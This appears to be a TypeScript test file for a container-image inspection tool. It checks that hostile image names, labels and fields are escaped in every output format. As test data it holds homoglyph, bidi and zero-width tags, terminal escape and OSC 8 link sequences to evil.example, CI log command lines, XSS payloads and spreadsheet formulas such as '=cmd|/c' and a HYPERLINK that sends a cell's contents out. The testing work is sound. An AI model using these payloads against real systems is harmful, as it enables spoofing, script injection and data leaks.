// Image names and other text of an archive that has a special meaning where it is printed.
import * as assert from 'uvu/assert';
import { imageInspect, outputFor, readArchive } from '../../src/commands.js';
import { FINDINGS_EXTENSIONS, OUTPUT_EXTENSIONS, piecesIn } from '../../src/format/outputs.js';
import { toText } from '../../src/format/text.js';
import { visible } from '../../src/visible.js';
import { askedOf, checkCommands, EVERYTHING, REPORTS } from '../property/commands.js';
import { image } from '../support/image.js';
import * as layouts from '../support/layouts.js';
import { toTar } from '../support/pack.js';
import { saved } from '../support/reading.js';
import { said } from '../support/terminal.js';
import { type Attack, type Chapter, proved, verified } from './attack.js';
import { item, save } from './material.js';

const tagged = (name: string): layouts.Member[] =>
  layouts.replaceBytes(save, 'manifest.json', bytes => {
    const [document] = JSON.parse(Buffer.from(bytes).toString());
    return JSON.stringify([{ ...document, RepoTags: [name] }]);
  });

const annotated = (key: string, name: string): layouts.Member[] =>
  layouts.ociLayout({
    manifests: [layouts.described(layouts.manifestOf(item), { annotations: { [key]: name } })],
  });

const deceiving = (what: string, name: string): Attack =>
  verified(what, 'An error that names the characters.', () => tagged(name), {
    findings: ['name-confusable'],
    exit: 1,
    verdicts: { conformant: false },
    more: ({ report }) => assert.equal(report.images[0]!.names, [name]),
  });

export const names: Chapter = {
  title: 'Names',
  attacks: [
    deceiving('A tag with a letter of another alphabet (homoglyph)', '\u0430pp:1'),
    deceiving('A tag with invisible characters', 'app\u200b:1'),
    deceiving('A tag that changes the direction of text (Trojan Source)', 'app:1\u202egnp'),
    deceiving(
      'A tag that makes a hyperlink on a terminal (OSC 8)',
      'app:1\u001b]8;;http://evil.example\u0007x',
    ),
    verified(
      'The same in the annotations of an index, which containerd does not validate',
      'The same.',
      () => annotated(layouts.NAME_ANNOTATION, '\u0430pp:1'),
      { findings: ['name-confusable'], exit: 1 },
    ),
    verified(
      'A name that is not a reference: a formula, markup, an option',
      'Reported. It is printed as text, and not passed to other programs.',
      () => annotated(layouts.REF_ANNOTATION, '=cmd|/c'),
      {
        exit: 0,
        verdicts: { conformant: false },
        more: ({ report }) => assert.ok(report.findings.some(({ code }) => code === 'name-invalid')),
      },
    ),
    verified(
      'A name of a megabyte',
      'Reported. Text reports show its beginning.',
      () => tagged(`${'a-'.repeat(500_000)}a:1`),
      {
        exit: 0,
        formats: 'none',
        verdicts: { conformant: false },
        more: ({ report }) => assert.ok(report.findings.some(({ code }) => code === 'name-invalid')),
      },
    ),
  ],
};

/** An archive with a text in every place that can contain one. */
async function saying(text: string): Promise<Uint8Array> {
  const noNul = text.replaceAll('\0', '');
  const line = noNul.replaceAll('\n', '');
  const map = { [`k${text}`]: text };
  const of = await image({
    layers: [
      {
        createdBy: text,
        compression: 'gzip',
        entries: [
          { path: `${noNul}/f`, bytes: 'hello' },
          { path: 'link', type: 'symlink', link: noNul },
          { path: 'lib/apk/db/installed', bytes: `P:${line}\nV:${line}\nF:x\n\n` },
          {
            path: 'var/lib/dpkg/status',
            bytes: `Package: ${line}\nStatus: ok installed\nVersion: ${line}\n`,
          },
        ],
      },
      {
        createdBy: text,
        files: { [`x/.wh.${line.replaceAll('/', '')}`]: '' },
        annotations: map,
        urls: [text],
      },
    ],
    config: {
      author: text,
      created: text,
      'os.version': text,
      variant: text,
      config: {
        Env: [text],
        Cmd: [text],
        Entrypoint: [text],
        User: text,
        WorkingDir: text,
        Labels: map,
        ExposedPorts: { [text]: {} },
        Volumes: { [text]: {} },
        StopSignal: text,
        Healthcheck: { Test: [text] },
      },
    },
    history: [
      { created: text, created_by: text, author: text, comment: text },
      { created_by: text, comment: text },
    ],
  });
  const manifest = layouts.manifestOf(of, { annotations: map, artifactType: text });
  const names = { [layouts.REF_ANNOTATION]: text, ...map };
  const platform = { os: text, architecture: text };
  const descriptor = { mediaType: text, digest: text, size: -1, platform };
  return toTar([
    ...layouts.ociLayout({
      manifests: [
        layouts.described(manifest, { platform, annotations: names, artifactType: text }),
        { descriptor, blobs: [] },
      ],
    }),
    layouts.file(`${noNul}x`, 'x'),
    layouts.file(`blobs/sha256/${noNul}`, 'x'),
    { path: `link${noNul}`, link: noNul },
  ]);
}

/** @param check  checks a report as text and in a file of each format */
const printed = (
  attack: string,
  answer: string,
  text: string,
  check: (output: string, name: string) => void = () => {},
): Attack =>
  proved(attack, answer, async () => {
    const file = saved(await saying(text), 'printed.tar');
    const reading = await readArchive(file, EVERYTHING);
    checkCommands(reading);
    for (const asked of REPORTS) {
      const result = askedOf(reading, asked);
      if (!('doc' in result)) continue;
      check(toText(result.doc, { width: null, color: false }), `${asked.name} as text`);
      for (const extension of [...OUTPUT_EXTENSIONS, ...FINDINGS_EXTENSIONS])
        check(outputFor(`x${extension}`)!(result), `${asked.name} ${extension}`);
    }
    const { stderr } = await said(['show', file, 'nothing:1']);
    assert.match(stderr, 'It holds');
    assert.ok(!stderr.includes('\u001b') && !/^\s*::/m.test(stderr), 'a list of names in an error');
    check(stderr, 'an error');
  });

const COMMANDS = [
  '::error file=a::b',
  '::stop-commands::x',
  '  ::set-output name=a::b',
  '##vso[task.complete]',
  '##[command]x | y',
  '##teamcity[x `y`]',
].join('\n');

export const output: Chapter = {
  title: 'What is printed',
  attacks: [
    printed(
      'Escape sequences that move the cursor, set the title, or make links (OSC 8)',
      'Shown as `\\u{1b}` on terminals and in files, in JSON as `\\u001b`. Docker’s commands, `--raw` and `cat` print the exact bytes, except on a terminal.',
      '\u001b[2J\u001b]0;t\u0007\u001b]8;;http://evil.example\u001b\\here\u001b]8;;\u001b\\\u009b31m\r',
      (text, name) => assert.not.match(text, /[\u001b\u009b\u0007\r]/, name),
    ),
    printed(
      'Text that hides or reorders adjacent text (bidi, zero-width, tag characters)',
      'Escaped in every format.',
      'a\u202eb\u2066c\u200bd\u{e0041}\u2028\ufeff',
      (text, name) => assert.not.match(text, /[\u202e\u2066\u200b\u{e0041}\u2028\ufeff]/u, name),
    ),
    printed(
      'Lines of a log that command the build service: `::error`, `##vso[`, `##[command]`, `##teamcity[`',
      'The first colon or hash is escaped, in reports of every format and in errors. Docker’s commands print Docker’s bytes.',
      COMMANDS,
      (text, name) => {
        assert.is(/^\s*::.*/m.exec(text)?.[0], undefined, name);
        assert.is(/.*##(?:vso|teamcity)?\[/.exec(text)?.[0], undefined, name);
      },
    ),
    printed(
      'HTML and scripts, in text, attributes, titles of the map and embedded data',
      'Escaped. The page’s content security policy allows only its own scripts and no requests.',
      '</script><script>alert(1)</script><!--<svg/onload=alert(1)>" onmouseover="x\' `',
      (text, name) => {
        if (!name.endsWith('.html')) return;
        assert.is(text.match(/<script/g)?.length ?? 0, text.match(/<\/script>/g)?.length ?? 0, name);
        assert.not.match(text, /<script>alert|<svg\/|<!--/, name);
      },
    ),
    printed(
      'Markdown and HTML in Markdown: links, pictures, tables, mentions, headings',
      'Written as code, or as character references if they could end the code.',
      '| x |\n# h\n[a](http://evil.example) ![i](http://evil.example/i) `c` <img src=x> @team &lt; ~~x~~ **b**\n```\n- l',
      (text, name) => {
        if (name.endsWith('.md')) assert.not.match(text.replace(/`[^`\n]*`/g, ''), /!\[|<img|\]\(/, name);
      },
    ),
    proved(
      'Lines, columns and colours of Docker’s own tables and templates, made by line ends, tabs and `ESC[0m` in labels and names',
      'On a terminal they are shown as `\\n`, `\\t`, `\\u{1b}`; the text of a template itself is not changed.',
      async () => {
        const evil = 'a\nsha256:fake\t1\u001b[1mB\u001b[0m\u202e';
        const of = await image({ layers: [{ files: { a: 'a' } }], config: { config: { Labels: { evil } } } });
        const reading = await readArchive(
          saved(await toTar(layouts.dockerSave({ image: of, tags: [] })), 'lines'),
        );
        const options = {
          store: 'classic',
          api: '1.51',
          format: '{{index .Config.Labels "evil"}}{{"\\n"}}',
        } as const;
        const [piped, shown] = [false, true].map(terminal =>
          imageInspect(reading, {}, { ...options, terminal }),
        );
        assert.is(piped!.stdout, `${evil}\n\n`);
        assert.is(shown!.stdout, `${visible(evil)}\n\n`);
      },
    ),
    proved(
      'A formula as a name, in the CSV of `merge`',
      'The cell begins with an apostrophe, so that spreadsheets show it as text; no other output is a sheet.',
      () => {
        assert.equal([...OUTPUT_EXTENSIONS], ['.html', '.md', '.json', '.txt']);
        const formula = '=HYPERLINK("http://example.com/?"&A1)';
        const table = { columns: ['path'], rows: [[formula]] };
        const csv = [...piecesIn('csv')({ data: null, doc: [], exitCode: 0, table })].join('');
        assert.is(csv, `path\r\n"'${formula.replaceAll('"', '""')}"\r\n`);
      },
    ),
  ],
};
